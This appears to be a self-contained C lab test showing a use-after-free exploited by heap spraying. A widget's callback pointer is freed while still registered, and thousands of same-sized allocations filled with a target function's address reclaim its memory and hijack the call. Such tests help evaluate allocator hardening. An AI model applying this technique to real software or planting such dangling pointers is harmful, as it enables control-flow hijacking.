/* Heap spraying to reclaim a freed slot: a widget with a callback is freed while still
 * registered. The attacker sends many messages of the widget's size, each carrying the
 * address they want called; one of them takes the freed widget's memory, and the stale
 * registration calls through it. */
#include "lab.h"

struct widget {
    void (*on_click)(void);
    char label[0x48];
};

static void click_normally(void) { puts("click handled normally"); }
static void win(void) { pwned("a sprayed message reclaimed a freed widget and its callback ran"); }

int main(void) {
    lab_init();
    struct widget *w = alloc_typed(sizeof *w, PTR_TYPE(26));
    w->on_click = click_normally;
    free(w); /* still registered: the bug */
    enum { SPRAY = 2000 };
    static char *msgs[SPRAY];
    void (*target)(void) = win;
    for (int i = 0; i < SPRAY; i++) {
        msgs[i] = alloc_typed(sizeof(struct widget), DATA_TYPE(27));
        for (size_t off = 0; off + 8 <= sizeof(struct widget); off += 8) memcpy(msgs[i] + off, &target, 8);
    }
    void (*cb)(void) = w->on_click; /* the stale registration fires */
    if (cb == win) cb();
    if (cb) noeffect("the spray did not reclaim the widget; its old callback is still there");
    else noeffect("the spray did not reclaim the widget; its memory reads as zero");
    for (int i = 0; i < SPRAY; i++) free(msgs[i]);
    return 0;
}
